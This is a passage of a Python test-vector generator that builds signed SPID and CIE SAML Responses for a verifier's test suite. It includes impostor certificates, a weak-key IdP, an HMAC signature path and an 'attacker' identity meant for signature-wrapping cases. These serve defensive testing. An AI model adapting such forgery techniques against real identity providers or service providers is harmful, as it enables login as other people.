#!/usr/bin/env python3
"""Generate idbridge's own SPID and CIE SAML Response vectors, byte for byte reproducibly.

    pip install -r test-vectors/saml-generator/requirements.txt
    python3 test-vectors/saml-generator/generate.py [--out DIR]

Writes the kinds `spid-saml` into DIR/spid/ and `cie-saml` into DIR/cie/
(DIR defaults to test-vectors/, the parent of this script's folder; both
output folders are deleted and written again).

Everything is derived from fixed inputs: the committed test keys in
test-vectors/keys (RSA PKCS#1 v1.5 signatures are deterministic), self-signed
certificates built here with fixed names, serials and dates, fixed IDs (a hash
of each file's name), fixed timestamps. Running the script twice gives
identical files.

Signatures are made the way an IdP makes them: exclusive c14n from lxml
(libxml2), RSA from pyca/cryptography. So the vectors check idbridge's Rust
c14n against an independent implementation.

Before anything is written, every case goes through `Model`, a second reading
of the verification rules of the spec the verifier follows (check order S1-S11,
the SPID/CIE rules and the decisions listed in ../spid/README.md). `Model`
parses the exact bytes of the case and re-verifies every signature it meets
with lxml + cryptography. A valid case must verify and give exactly its
`identity`. An invalid case must fail with exactly its `expectedError`, or with
any code when it has none. Any disagreement aborts the run, and nothing is
written.
"""

import argparse
import base64
import copy
import datetime
import hashlib
import hmac
import json
import os
import re
import shutil
import sys
import time

import cryptography
import lxml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.x509.oid import NameOID
from lxml import etree

HERE = os.path.dirname(os.path.abspath(__file__))
VECTORS_DIR = os.path.normpath(os.path.join(HERE, ".."))
KEYS_DIR = os.path.join(VECTORS_DIR, "keys")
GEN = "test-vectors/saml-generator/generate.py"

# ------------------------------------------------------------------ namespaces and URIs

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
DS = "http://www.w3.org/2000/09/xmldsig#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
XENC = "http://www.w3.org/2001/04/xmlenc#"
SHIBMD = "urn:mace:shibboleth:metadata:1.0"
IDBR = "urn:idbridge:test:extensions"

EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_WC = EXC + "WithComments"
C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENV = DS + "enveloped-signature"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
RSA_SHA256 = MORE + "rsa-sha256"
RSA_SHA384 = MORE + "rsa-sha384"
RSA_SHA512 = MORE + "rsa-sha512"
RSA_SHA1 = DS + "rsa-sha1"
HMAC_SHA256 = MORE + "hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA384 = MORE + "sha384"
SHA512 = "http://www.w3.org/2001/04/xmlenc#sha512"
SHA1 = DS + "sha1"

SIGN_SM = {
    RSA_SHA256: hashes.SHA256,
    RSA_SHA384: hashes.SHA384,
    RSA_SHA512: hashes.SHA512,
    RSA_SHA1: hashes.SHA1,
    HMAC_SHA256: "hmac",
}
SIGN_DM = {SHA256: "sha256", SHA384: "sha384", SHA512: "sha512", SHA1: "sha1"}

SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
ST = "urn:oasis:names:tc:SAML:2.0:status:"
ENTITY = "urn:oasis:names:tc:SAML:2.0:nameid-format:entity"
TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
POST = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
REDIRECT = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"
LVL = "https://www.spid.gov.it/"
LEVEL_URIS = {LVL + "SpidL1": 1, LVL + "SpidL2": 2, LVL + "SpidL3": 3}
LOA = {1: "low", 2: "substantial", 3: "high"}

# ------------------------------------------------------------------ the fixed context

SP = "https://sp.idbridge.test"
ACS = "https://sp.idbridge.test/acs"

SPID_IDP = "https://idp.idbridge.test/spid"
SPID_IDP2 = "https://id.second-idp.idbridge.test"
SPID_WEAK = "https://weak-idp.idbridge.test/spid"
CIE_IDP = "https://idserver.cie.idbridge.test/idp/profile/SAML2/POST/SSO"

SPID_REQ = "_idbr-spid-req-5f0e8c1a9d3b47e2a6c4"
SPID_REQ_II = "2026-03-01T10:00:00Z"
SPID_NOW = "2026-03-01T10:00:30Z"
CIE_REQ = "_idbr-cie-req-2b7d94e1c05a4f38b6e1"
CIE_REQ_II = "2026-03-01T11:00:00Z"
CIE_NOW = "2026-03-01T11:00:20Z"

# ------------------------------------------------------------------ small helpers


def b64(data):
    return base64.b64encode(data).decode("ascii")


def chunks(text, width):
    return [text[i : i + width] for i in range(0, len(text), width)]


def one(s, old, new):
    """Replace `old` by `new` in `s`, where `old` occurs exactly once."""
    n = s.count(old)
    if n != 1:
        raise AssertionError(f"expected exactly one {old[:100]!r}, found {n}")
    return s.replace(old, new)


def esc(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def esc_attr(text):
    return esc(text).replace('"', "&quot;")


def hid(label, n=40):
    """A fixed SAML ID derived from a label (xs:ID: starts with '_')."""
    return "_" + hashlib.sha256(label.encode("utf-8")).hexdigest()[:n]


def codice_fiscale(first15):
    """Appends the check character of an Italian fiscal code."""
    odd = dict(
        zip(
            "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ",
            [1, 0, 5, 7, 9, 13, 15, 17, 19, 21]
            + [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23],
        )
    )
    even = {c: (int(c) if c.isdigit() else ord(c) - 65) for c in "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"}
    total = sum(odd[c] if i % 2 == 0 else even[c] for i, c in enumerate(first15))
    return first15 + chr(65 + total % 26)


# The (fictitious) people. Fiscal codes are built by the official rule.
GIULIA = {
    "fiscalNumber": "TINIT-" + codice_fiscale("BNCGLI85L54H501"),
    "name": "Giulia",
    "familyName": "Bianchi",
    "dateOfBirth": "1985-07-14",
    "spidCode": "IDBR0000000001",
    "email": "giulia.bianchi@example.org",
}
MALLORY_CF = "TINIT-" + codice_fiscale("VLEMLR80A01H501")  # the attacker's target identity in wrapping cases
MARCO = {
    "fiscalNumber": "TINIT-" + codice_fiscale("VRDMRC72C09F205"),
    "name": "MARCO",
    "familyName": "VERDI",
    "dateOfBirth": "1972-03-09",
}

# ------------------------------------------------------------------ keys and certificates


def load_key(name):
    with open(os.path.join(KEYS_DIR, name + ".pk8.pem"), "rb") as f:
        return serialization.load_pem_private_key(f.read(), password=None)


KEYS = {}
CERTS = {}  # name -> (DER bytes, key name, description)


def dn(cn, ou=None):
    attrs = [
        x509.NameAttribute(NameOID.COUNTRY_NAME, "IT"),
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "idbridge test vectors"),
    ]
    if ou:
        attrs.append(x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, ou))
    attrs.append(x509.NameAttribute(NameOID.COMMON_NAME, cn))
    return x509.Name(attrs)


def make_cert(key, name, serial, start, end):
    pub = key.public_key()
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(pub)
        .serial_number(serial)
        .not_valid_before(datetime.datetime(*start, tzinfo=datetime.timezone.utc))
        .not_valid_after(datetime.datetime(*end, tzinfo=datetime.timezone.utc))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(
                digital_signature=True,
                content_commitment=False,
                key_encipherment=False,
                data_encipherment=False,
                key_agreement=False,
                key_cert_sign=False,
                crl_sign=False,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(pub), critical=False)
    )
    return builder.sign(key, hashes.SHA256(), rsa_padding=padding.PKCS1v15()).public_bytes(serialization.Encoding.DER)


# name, key file, subject, serial, validity, description
CERT_SPECS = [
    (
        "spid-idp",
        "rsa2048",
        dn("idp.idbridge.test", "SPID IdP"),
        0x1DB5A001,
        (2026, 1, 1),
        (2036, 1, 1),
        "the SPID IdP's signing certificate (key test-vectors/keys/rsa2048.pk8.pem), in metadata/idp.xml",
    ),
    (
        "spid-idp-renewed",
        "rsa2048",
        dn("idp.idbridge.test", "SPID IdP"),
        0x1DB5A002,
        (2026, 2, 1),
        (2036, 2, 1),
        "the same rsa2048 key in a second certificate (same subject, other serial and dates): a renewal that is not in the metadata",
    ),
    (
        "stranger",
        "rsa2048-b",
        dn("idp.idbridge.test", "SPID IdP"),
        0x1DB5A003,
        (2026, 1, 1),
        (2036, 1, 1),
        "an impostor: the IdP's subject name over another key (test-vectors/keys/rsa2048-b.pk8.pem); trusted nowhere",
    ),
    (
        "spid-idp2",
        "rsa4096",
        dn("id.second-idp.idbridge.test", "SPID IdP 2"),
        0x1DB5A004,
        (2026, 1, 1),
        (2036, 1, 1),
        "the second SPID IdP's signing certificate (key test-vectors/keys/rsa4096.pk8.pem), in metadata/idp2.xml and metadata/registry.xml",
    ),
    (
        "spid-weak",
        "rsa1024",
        dn("weak-idp.idbridge.test", "SPID IdP with a 1024-bit key"),
        0x1DB5A005,
        (2026, 1, 1),
        (2036, 1, 1),
        "an IdP certificate over a 1024-bit key (test-vectors/keys/rsa1024.pk8.pem), in metadata/idp-weak.xml",
    ),
    (
        "cie-signing",
        "rsa3072",
        dn("idserver.cie.idbridge.test", "CIE IdP"),
        0x1DB5C001,
        (2026, 1, 1),
        (2046, 1, 1),
        'the CIE IdP\'s signing certificate (key test-vectors/keys/rsa3072.pk8.pem): the KeyDescriptor use="signing" of metadata/cie-idp.xml',
    ),
    (
        "cie-encryption",
        "rsa4096",
        dn("idserver.cie.idbridge.test", "CIE IdP encryption"),
        0x1DB5C002,
        (2026, 1, 1),
        (2046, 1, 1),
        'the CIE IdP\'s encryption certificate (key test-vectors/keys/rsa4096.pk8.pem): KeyDescriptor use="encryption", never a signing key',
    ),
    (
        "cie-aa",
        "rsa2048",
        dn("idserver.cie.idbridge.test", "CIE attribute authority"),
        0x1DB5C003,
        (2026, 1, 1),
        (2046, 1, 1),
        "a signing certificate of the CIE AttributeAuthorityDescriptor (key test-vectors/keys/rsa2048.pk8.pem): not an IdP (IDPSSODescriptor) key",
    ),
    (
        "cie-stranger",
        "rsa2048-b",
        dn("idserver.cie.idbridge.test", "CIE IdP"),
        0x1DB5C004,
        (2026, 1, 1),
        (2046, 1, 1),
        "an impostor of the CIE IdP's subject name over test-vectors/keys/rsa2048-b.pk8.pem; trusted nowhere",
    ),
]


def init_keys():
    for name in ["rsa2048", "rsa2048-b", "rsa3072", "rsa4096", "rsa1024"]:
        KEYS[name] = load_key(name)
    for name, keyname, subject, serial, start, end, what in CERT_SPECS:
        CERTS[name] = (make_cert(KEYS[keyname], subject, serial, start, end), keyname, what)


def cert_b64(name):
    return b64(CERTS[name][0])


# ------------------------------------------------------------------ a tiny XML tree for building documents


class El:
    """An element to render: name with its prefix as written, attributes in order, children or raw text."""

    def __init__(self, name, attrs=(), children=(), text=None):
        self.name = name
        self.attrs = list(attrs)
        self.children = list(children)
        self.text = text  # raw XML (already escaped) for a leaf element

    @property
    def local(self):
        return self.name.split(":")[-1]

    def get(self, k):
        for a, v in self.attrs:
            if a == k:
                return v
        return None

    def set(self, k, v):
        for i, (a, _) in enumerate(self.attrs):
            if a == k:
                self.attrs[i] = (k, v)
                return self
        self.attrs.append((k, v))
        return self

    def delete(self, k):
        n = len(self.attrs)
        self.attrs = [(a, v) for a, v in self.attrs if a != k]
        assert len(self.attrs) == n - 1, k
        return self

    def kids(self, local):
        return [c for c in self.children if (isinstance(c, El) and c.local == local) or (isinstance(c, Sig) and local == "Signature")]

    def find(self, path):
        node = self
        for step in path.split("/"):
            found = node.kids(step)
            assert found, f"no {step} in {node.name}"
            node = found[0]
        return node

    def index(self, child):
        for i, c in enumerate(self.children):
            if c is child:
                return i
        raise AssertionError("not a child")

    def remove(self, path):
        parent, _, last = path.rpartition("/")
        p = self.find(parent) if parent else self
        c = p.find(last)
        p.children.pop(p.index(c))
        return c

    def insert_after(self, path, new):
        parent, _, last = path.rpartition("/")
        p = self.find(parent) if parent else self
        p.children.insert(p.index(p.find(last)) + 1, new)

    def insert_before(self, path, new):
        parent, _, last = path.rpartition("/")
        p = self.find(parent) if parent else self
        p.children.insert(p.index(p.find(last)), new)

    def rename(self, prefix):
        """Change the prefix of this element and of every descendant that had the same prefix."""
        old = self.name.split(":")[0] if ":" in self.name else ""
        for e in self.walk():
            eo = e.name.split(":")[0] if ":" in e.name else ""
            if eo == old:
                e.name = (prefix + ":" if prefix else "") + e.local

    def walk(self):
        yield self
        for c in self.children:
            if isinstance(c, El):
                yield from c.walk()


class Raw:
    """Markup inserted as is (on its own line)."""

    def __init__(self, text):
        self.text = text


class Sig:
    """An enveloped XML signature to be made over the element that holds it.

    `uris` are the Reference URIs (None: '#' + the holder's ID). `keyinfo` is a
    list of certificate names for KeyInfo/X509Data (None: no KeyInfo).
    """

    def __init__(
        self,
        key="rsa2048",
        keyinfo=("spid-idp",),
        sm=RSA_SHA256,
        dm=SHA256,
        cm=EXC,
        transforms=(ENV, EXC),
        prefix_list=None,
        uris=(None,),
        p="ds",
        fmt="lines64",
        keyinfo_extra=None,
    ):
        self.key = key
        self.keyinfo = keyinfo
        self.sm = sm
        self.dm = dm
        self.cm = cm
        self.transforms = transforms
        self.prefix_list = prefix_list
        self.uris = uris
        self.p = p
        self.fmt = fmt
        self.keyinfo_extra = keyinfo_extra


def fmt_b64(data, fmt, indent):
    s = b64(data)
    if fmt == "one" or len(s) <= 76 and fmt != "santuario":
        return s
    if fmt == "lines64":  # xmlsec1
        return "\n" + "\n".join(chunks(s, 64)) + "\n" + indent
    if fmt == "santuario":  # Apache Santuario (Shibboleth): CR LF every 76, the CR escaped
        return "&#13;\n".join(chunks(s, 76)) if len(s) > 76 else s
    if fmt == "spaces76":  # as pagopa's CIE mock prints it
        return "\n" + " ".join(chunks(s, 76)) + "\n" + indent
    raise AssertionError(fmt)


class Doc:
    """Render state: the placeholders of the signatures still to make."""

    def __init__(self):
        self.sigs = []  # (depth, n, Sig)


def render_sig(sig, holder, depth, doc):
    n = len(doc.sigs) + 1
    doc.sigs.append((depth, n, sig))
    q = (lambda x: sig.p + ":" + x) if sig.p else (lambda x: x)
    decl = ("xmlns:" + sig.p) if sig.p else "xmlns"
    refs = []
    for k, uri in enumerate(sig.uris):
        if uri is None:
            uri = "#" + (holder.get("ID") or "")
        tr = []
        for alg in sig.transforms:
            if alg in (EXC, EXC_WC) and sig.prefix_list is not None:
                tr.append(
                    El(
                        q("Transform"),
                        [("Algorithm", alg)],
                        [El("ec:InclusiveNamespaces", [("xmlns:ec", EXC), ("PrefixList", sig.prefix_list)])],
                    )
                )
            else:
                tr.append(El(q("Transform"), [("Algorithm", alg)]))
        kids = [El(q("Transforms"), children=tr)] if sig.transforms else []
        kids += [El(q("DigestMethod"), [("Algorithm", sig.dm)]), El(q("DigestValue"), text=f"@@D{n}.{k}@@")]
        refs.append(El(q("Reference"), [("URI", uri)] if uri != "(none)" else [], kids))
    si = El(
        q("SignedInfo"),
        children=[El(q("CanonicalizationMethod"), [("Algorithm", sig.cm)]), El(q("SignatureMethod"), [("Algorithm", sig.sm)])] + refs,
    )
    kids = [si, El(q("SignatureValue"), text=f"@@S{n}@@")]
    if sig.keyinfo is not None:
        certs = [El(q("X509Certificate"), text=f"@@C{n}.{i}@@") for i in range(len(sig.keyinfo))]
        kids.append(El(q("KeyInfo"), children=[El(q("X509Data"), children=certs)]))
    if sig.keyinfo_extra is not None:
        kids.append(sig.keyinfo_extra)
    return El(q("Signature"), [(decl, DS)], kids)


def render(el, depth=0, doc=None, ind="  ", holder=None, nl="\n"):
    pad = ind * depth
    if isinstance(el, Raw):
        return pad + el.text
    if isinstance(el, Sig):
        el = render_sig(el, holder, depth, doc)
    attrs = "".join(f' {k}="{esc_attr(v)}"' for k, v in el.attrs)
    if el.children:
        inner = "".join(nl + render(c, depth + 1, doc, ind, el, nl) for c in el.children)
        return f"{pad}<{el.name}{attrs}>{inner}{nl}{pad}</{el.name}>"
    if el.text is None:
        return f"{pad}<{el.name}{attrs}/>"
    return f"{pad}<{el.name}{attrs}>{el.text}</{el.name}>"


DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def build(tree, decl=True, minified=False):
    """Render `tree` and make its signatures (deepest first). Returns the document as str."""
    doc = Doc()
    if minified:
        text = (DECL if decl else "") + render(tree, 0, doc, ind="", nl="")
    else:
        text = (DECL if decl else "") + render(tree, 0, doc) + "\n"
    for depth, n, sig in sorted(doc.sigs, key=lambda t: (-t[0], t[1])):
        text = fill_signature(text, n, sig)
    return text


# ------------------------------------------------------------------ signing

PARSER = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True, remove_blank_text=False, huge_tree=False)


def parse(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return etree.fromstring(data, PARSER)


def local(el):
    return etree.QName(el).localname if isinstance(el.tag, str) else None


def c14n(el, exclusive=True, with_comments=False, prefixes=None):
    """libxml2's canonicalization of the subtree at `el` (in-scope namespaces from its ancestors)."""
    if prefixes:
        prefixes = ["" if p == "#default" else p for p in prefixes]
    return etree.tostring(el, method="c14n", exclusive=exclusive, with_comments=with_comments, inclusive_ns_prefixes=prefixes or None)


def remove_keep_tail(el):
    """Remove `el`, keeping the text that follows it (the enveloped-signature transform)."""
    parent = el.getparent()
    prev = el.getprevious()
    if el.tail:
        if prev is not None:
            prev.tail = (prev.tail or "") + el.tail
        else:
            parent.text = (parent.text or "") + el.tail
    parent.remove(el)


def holding(root, placeholder):
    found = [e for e in root.iter() if isinstance(e.tag, str) and e.text == placeholder]
    assert len(found) == 1, placeholder
    return found[0]


def signature_of(el):
    while el is not None and not (local(el) == "Signature" and etree.QName(el).namespace == DS):
        el = el.getparent()
    return el


def sign_bytes(keyname, sm, data):
    h = SIGN_SM[sm]
    if h == "hmac":
        return hmac.new(b"idbridge-test-hmac-key", data, "sha256").digest()
    return KEYS[keyname].sign(data, padding.PKCS1v15(), h())


def fill_signature(text, n, sig):
    # the digests, one per Reference
    for k, uri in enumerate(sig.uris):
        root = parse(text)
        dv = holding(root, f"@@D{n}.{k}@@")
        ref = dv.getparent()
        s = signature_of(ref)
        uri = ref.get("URI")
        if uri == "" or uri is None:
            target = root
        else:
            want = uri[1:]
            target = next((e for e in root.iter() if isinstance(e.tag, str) and e.get("ID") == want), s.getparent())
        transforms = sig.transforms
        if ENV in transforms and target in s.iterancestors():
            remove_keep_tail(s)
        if C14N in transforms or not any(t in (EXC, EXC_WC) for t in transforms):
            data = c14n(target, exclusive=False)
        else:
            data = c14n(target, exclusive=True, with_comments=EXC_WC in transforms, prefixes=(sig.prefix_list or "").split())
        digest = hashlib.new(SIGN_DM[sig.dm], data).digest()
        text = one(text, f"@@D{n}.{k}@@", b64(digest))
    # KeyInfo certificates (not signed, but fill them before the SignatureValue for clarity)
    if sig.keyinfo is not None:
        for i, cname in enumerate(sig.keyinfo):
            m = re.search(r"\n( *)<[^>]*>@@C%d\.%d@@" % (n, i), text)
            indent = m.group(1) if m else ""
            c = fmt_b64(CERTS[cname][0], sig.fmt, indent)
            text = one(text, f"@@C{n}.{i}@@", c)
    # the signature value over SignedInfo
    root = parse(text)
    sv = holding(root, f"@@S{n}@@")
    si = sv.getprevious()
    assert local(si) == "SignedInfo"
    if sig.cm in (C14N,):
        data = c14n(si, exclusive=False)
    else:
        data = c14n(si, exclusive=True, with_comments=sig.cm == EXC_WC)
    value = sign_bytes(sig.key, sig.sm, data)
    m = re.search(r"\n( *)<[^>]*>@@S%d@@" % n, text)
    indent = m.group(1) if m else ""
    return one(text, f"@@S{n}@@", fmt_b64(value, sig.fmt, indent))


def serialize(root, decl=True):
    """A re-serialization of an lxml tree (after structural surgery on signed bytes)."""
    return (DECL if decl else "") + etree.tostring(root, encoding="unicode") + "\n"


# ------------------------------------------------------------------ Response builders


class P:
    """The parameters of a Response; defaults give a good one of the profile."""

    def __init__(self, base, **kw):
        self.__dict__.update(base)
        self.__dict__.update(kw)

    def but(self, **kw):
        q = P({})
        q.__dict__.update(self.__dict__)
        q.__dict__.update(kw)
        return q


def spid_sig(key="rsa2048", cert="spid-idp", **kw):
    return Sig(key=key, keyinfo=(cert,) if cert else None, **kw)


SPID_DEFAULTS = dict(
    profile="spid",
    issuer=SPID_IDP,
    a_issuer=None,  # None: same as issuer
    ii="2026-03-01T10:00:10Z",
    a_ii=None,  # None: same as ii
    authn="2026-03-01T10:00:05Z",
    nb=None,  # None: same as ii
    noa="2026-03-01T10:05:10Z",
    scd_noa=None,  # None: same as noa
    dest=ACS,
    req=SPID_REQ,
    recipient=ACS,
    audience=SP,
    level="SpidL2",
    name_qualifier=SPID_IDP,
    person=GIULIA,
    attr_order=("spidCode", "name", "familyName", "fiscalNumber", "dateOfBirth", "email"),
    resp_sig=True,  # True: the default signature; None: unsigned; or a Sig
    assert_sig=True,
    key="rsa2048",
    cert="spid-idp",
    session_index=True,
)

CIE_DEFAULTS = dict(
    profile="cie",
    issuer=CIE_IDP,
    a_issuer=None,
    ii="2026-03-01T11:00:07.215Z",
    a_ii=None,
    authn="2026-03-01T11:00:04.532Z",
    nb=None,
    noa="2026-03-01T11:05:07.215Z",
    scd_noa=None,
    dest=ACS,
    req=CIE_REQ,
    recipient=ACS,
    audience=SP,
    level="SpidL3",
    name_qualifier=CIE_IDP,
    sp_name_qualifier=SP,
    person=MARCO,
    attr_order=("dateOfBirth", "fiscalNumber", "name", "familyName"),
    resp_sig=True,
    assert_sig=True,
    key="rsa3072",
    cert="cie-signing",
    session_index=True,
)

CIE_FRIENDLY = {"dateOfBirth": "Data di Nascita", "fiscalNumber": "Codice Fiscale", "name": "Nome", "familyName": "Cognome"}
SPID_TYPES = {"dateOfBirth": "xs:date"}


def the_sig(p, which):
    s = p.resp_sig if which == "response" else p.assert_sig
    if s is True:
        if p.profile == "spid":
            return spid_sig(p.key, p.cert)
        return Sig(key=p.key, keyinfo=(p.cert,), prefix_list="xsd", fmt="santuario")
    return s or None


def spid_tree(p, label):
    """A SPID Response as AgID's validator templates lay it out (samlp:/saml: prefixes, xs: types)."""
    rid, aid = hid(label + "/response"), hid(label + "/assertion")
    R = El(
        "samlp:Response",
        [
            ("xmlns:samlp", SAMLP),
            ("xmlns:saml", SAML),
            ("ID", rid),
            ("Version", "2.0"),
            ("IssueInstant", p.ii),
            ("Destination", p.dest),
            ("InResponseTo", p.req),
        ],
    )
    R.children.append(El("saml:Issuer", [("Format", ENTITY)], text=esc(p.issuer)))
    if the_sig(p, "response"):
        R.children.append(the_sig(p, "response"))
    R.children.append(El("samlp:Status", children=[El("samlp:StatusCode", [("Value", SUCCESS)])]))
    A = El("saml:Assertion", [("xmlns:xs", XS), ("xmlns:xsi", XSI), ("ID", aid), ("Version", "2.0"), ("IssueInstant", p.a_ii or p.ii)])
    A.children.append(El("saml:Issuer", [("Format", ENTITY)], text=esc(p.a_issuer or p.issuer)))
    if the_sig(p, "assertion"):
        A.children.append(the_sig(p, "assertion"))
    A.children.append(
        El(
            "saml:Subject",
            children=[
                El("saml:NameID", [("Format", TRANSIENT), ("NameQualifier", p.name_qualifier)], text=hid(label + "/nameid", 32)),
                El(
                    "saml:SubjectConfirmation",
                    [("Method", BEARER)],
                    [
                        El(
                            "saml:SubjectConfirmationData",
                            [("InResponseTo", p.req), ("NotOnOrAfter", p.scd_noa or p.noa), ("Recipient", p.recipient)],
                        )
                    ],
                ),
            ],
        )
    )
    A.children.append(
        El(
            "saml:Conditions",
            [("NotBefore", p.nb or p.ii), ("NotOnOrAfter", p.noa)],
            [El("saml:AudienceRestriction", children=[El("saml:Audience", text=esc(p.audience))])],
        )
    )
    authn_attrs = [("AuthnInstant", p.authn)]
    if p.session_index:
        authn_attrs.append(("SessionIndex", hid(label + "/session")))
    A.children.append(
        El("saml:AuthnStatement", authn_attrs, [El("saml:AuthnContext", children=[El("saml:AuthnContextClassRef", text=LVL + p.level)])])
    )
    attrs = []
    for name in p.attr_order:
        attrs.append(
            El(
                "saml:Attribute",
                [("Name", name), ("NameFormat", BASIC)],
                [El("saml:AttributeValue", [("xsi:type", SPID_TYPES.get(name, "xs:string"))], text=esc(p.person[name]))],
            )
        )
    if attrs:
        A.children.append(El("saml:AttributeStatement", children=attrs))
    R.children.append(A)
    return R


def cie_tree(p, label):
    """A CIE ID Response as the Ministry's Shibboleth IdP writes it (saml2p:/saml2: prefixes, xsd:string values)."""
    label = "cie/" + label
    rid, aid = hid(label + "/response", 32), hid(label + "/assertion", 32)
    R = El(
        "saml2p:Response",
        [
            ("Destination", p.dest),
            ("ID", rid),
            ("InResponseTo", p.req),
            ("IssueInstant", p.ii),
            ("Version", "2.0"),
            ("xmlns:saml2p", SAMLP),
            ("xmlns:xsd", XS),
        ],
    )
    R.children.append(El("saml2:Issuer", [("xmlns:saml2", SAML)], text=esc(p.issuer)))
    if the_sig(p, "response"):
        R.children.append(the_sig(p, "response"))
    R.children.append(El("saml2p:Status", children=[El("saml2p:StatusCode", [("Value", SUCCESS)])]))
    A = El("saml2:Assertion", [("ID", aid), ("IssueInstant", p.a_ii or p.ii), ("Version", "2.0"), ("xmlns:saml2", SAML), ("xmlns:xsd", XS)])
    A.children.append(El("saml2:Issuer", text=esc(p.a_issuer or p.issuer)))
    if the_sig(p, "assertion"):
        A.children.append(the_sig(p, "assertion"))
    nid = [("Format", TRANSIENT), ("NameQualifier", p.name_qualifier)]
    if p.sp_name_qualifier is not None:
        nid.append(("SPNameQualifier", p.sp_name_qualifier))
    opaque = b64(hashlib.sha512((label + "/nameid").encode()).digest() + hashlib.sha256((label + "/nameid2").encode()).digest())
    A.children.append(
        El(
            "saml2:Subject",
            children=[
                El("saml2:NameID", nid, text=opaque),
                El(
                    "saml2:SubjectConfirmation",
                    [("Method", BEARER)],
                    [
                        El(
                            "saml2:SubjectConfirmationData",
                            [
                                ("Address", "198.51.100.23"),
                                ("InResponseTo", p.req),
                                ("NotOnOrAfter", p.scd_noa or p.noa),
                                ("Recipient", p.recipient),
                            ],
                        )
                    ],
                ),
            ],
        )
    )
    A.children.append(
        El(
            "saml2:Conditions",
            [("NotBefore", p.nb or p.ii), ("NotOnOrAfter", p.noa)],
            [El("saml2:AudienceRestriction", children=[El("saml2:Audience", text=esc(p.audience))])],
        )
    )
    authn_attrs = [("AuthnInstant", p.authn)]
    if p.session_index:
        authn_attrs.append(("SessionIndex", hid(label + "/session", 32)))
    A.children.append(
        El(
            "saml2:AuthnStatement",
            authn_attrs,
            [
                El("saml2:SubjectLocality", [("Address", "198.51.100.23")]),
                El("saml2:AuthnContext", children=[El("saml2:AuthnContextClassRef", text=LVL + p.level)]),
            ],
        )
    )
    attrs = []
    for name in p.attr_order:
        attrs.append(
            El(
                "saml2:Attribute",
                [("FriendlyName", CIE_FRIENDLY.get(name, name)), ("Name", name), ("NameFormat", BASIC)],
                [El("saml2:AttributeValue", [("xmlns:xsi", XSI), ("xsi:type", "xsd:string")], text=esc(p.person[name]))],
            )
        )
    if attrs:
        A.children.append(El("saml2:AttributeStatement", children=attrs))
    R.children.append(A)
    return R


def tree_of(p, label):
    return spid_tree(p, label) if p.profile == "spid" else cie_tree(p, label)


def identity_of(p, **over):
    """The identity a good Response built from `p` must give."""
    person = p.person
    ident = {
        "system": p.profile,
        "issuer": p.a_issuer or p.issuer,
        "subject_id": person["fiscalNumber"],
        "given_name": person["name"],
        "family_name": person["familyName"],
        "birth_date": person["dateOfBirth"],
        "level": p.level,
        "loa": LOA[int(p.level[-1])],
        "authn_instant": p.authn,
        "attributes": {k: person[k] for k in p.attr_order if k not in ("fiscalNumber", "name", "familyName", "dateOfBirth")},
    }
    ident.update(over)
    return {k: v for k, v in ident.items() if v is not None}


# ------------------------------------------------------------------ metadata


def md_keydescriptor(use, certs, ind="    "):
    attrs = [("use", use)] if use else []
    return El(
        "md:KeyDescriptor",
        attrs,
        [El("ds:KeyInfo", children=[El("ds:X509Data", children=[El("ds:X509Certificate", text=cert_b64(c)) for c in certs])])],
    )


def spid_entity(entity_id, keydescs, org, decl_ns=True):
    base = entity_id.rstrip("/")
    attrs = [("xmlns:md", MD), ("xmlns:ds", DS), ("xmlns:saml", SAML)] if decl_ns else []
    attrs += [("entityID", entity_id), ("ID", hid("md/" + entity_id))]
    idp = El(
        "md:IDPSSODescriptor",
        [("WantAuthnRequestsSigned", "true"), ("protocolSupportEnumeration", SAMLP)],
        keydescs
        + [
            El("md:SingleLogoutService", [("Binding", POST), ("Location", base + "/slo")]),
            El("md:SingleLogoutService", [("Binding", REDIRECT), ("Location", base + "/slo")]),
            El("md:NameIDFormat", text=TRANSIENT),
            El("md:SingleSignOnService", [("Binding", POST), ("Location", base + "/sso")]),
            El("md:SingleSignOnService", [("Binding", REDIRECT), ("Location", base + "/sso")]),
        ]
        + [
            El("saml:Attribute", [("Name", n), ("NameFormat", BASIC)])
            for n in ("spidCode", "name", "familyName", "fiscalNumber", "dateOfBirth", "email")
        ],
    )
    org_el = El(
        "md:Organization",
        children=[
            El("md:OrganizationName", [("xml:lang", "it")], text=esc(org)),
            El("md:OrganizationDisplayName", [("xml:lang", "it")], text=esc(org)),
            El("md:OrganizationURL", [("xml:lang", "it")], text=esc(base + "/")),
        ],
    )
    return El("md:EntityDescriptor", attrs, [idp, org_el])


def metadata_files():
    """name -> (bytes, description)."""
    out = {}
